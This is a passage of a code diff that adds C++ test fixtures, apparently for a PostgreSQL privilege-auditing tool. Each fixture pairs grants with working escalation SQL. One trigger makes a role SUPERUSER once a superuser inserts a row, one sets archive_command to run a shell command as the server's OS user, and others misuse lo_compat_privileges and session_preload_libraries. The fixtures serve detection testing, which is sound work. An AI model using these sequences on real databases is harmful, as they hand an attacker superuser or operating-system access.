+                 R"x(CREATE FUNCTION s.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF current_setting('is_superuser')::bool THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN NEW; END $$;
+CREATE TRIGGER x BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION s.f();
+ALTER TABLE public.t ENABLE ALWAYS TRIGGER x;)x",
+             .victim_is = "{super}",
+             .victim =
+                 R"x(\! psql -X -q -d '{where} user={super} dbname={db}p' -c 'INSERT INTO public.t VALUES (1)'
+DO $$ BEGIN FOR i IN 1 .. 200 LOOP EXIT WHEN (SELECT count(*) > 0 FROM public.t); PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP TRIGGER IF EXISTS x ON public.t; DROP "
+                      "FUNCTION IF EXISTS s.f(); TRUNCATE public.t;"},
+            {.id = "ESC-PARAM",
+             .since = 15,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT ALTER SYSTEM ON PARAMETER archive_command TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT ALTER SYSTEM ON PARAMETER log_connections TO {r}app;)x",
+             .to = "the server's operating-system user",
+             .does = "ALTER SYSTEM SET archive_command = 'touch {data}/{db}.written';",
+             .victim_is = "{super}",
+             .victim = R"x(SELECT pg_reload_conf();
+CREATE TABLE IF NOT EXISTS public.w (a int); INSERT INTO public.w VALUES (1);
+SELECT pg_switch_wal();
+DO $$ BEGIN FOR i IN 1 .. 100 LOOP EXIT WHEN (pg_stat_file('{db}.written', true)).size IS NOT NULL; PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
+             .shell = "test -e {data}/{db}.written && rm {data}/{db}.written",
+             .reset = R"x(ALTER SYSTEM RESET archive_command;
+SELECT pg_reload_conf();
+SELECT pg_sleep(1);
+\! rm -f {data}/{db}.written)x"},
+            {.id = "ESC-PARAM",
+             .since = 15,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+SELECT lo_from_bytea(0, 'x');
+GRANT SET ON PARAMETER lo_compat_privileges TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+SELECT lo_from_bytea(0, 'x');
+GRANT SET ON PARAMETER log_statement TO {r}app;)x",
+             .to = "every large object",
+             .does = R"x(SET lo_compat_privileges = on;
+SELECT 'gained' FROM (SELECT lo_get(oid) FROM pg_largeobject_metadata) AS all_of_them LIMIT 1;)x"},
+            {.id = "ESC-PARAM",
+             .since = 15,
+             .until = 18,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT SET ON PARAMETER session_preload_libraries TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+)x",
+             .to = "the server's operating-system user",
+             .does = R"x(ALTER ROLE {r}app SET session_preload_libraries = 'auto_explain';
+\connect
+SELECT 'gained' FROM pg_settings WHERE name = 'auto_explain.log_analyze';)x",
+             .reset = "ALTER ROLE {r}app RESET session_preload_libraries;"},
+        }};
+
+}  // namespace pgleast::test
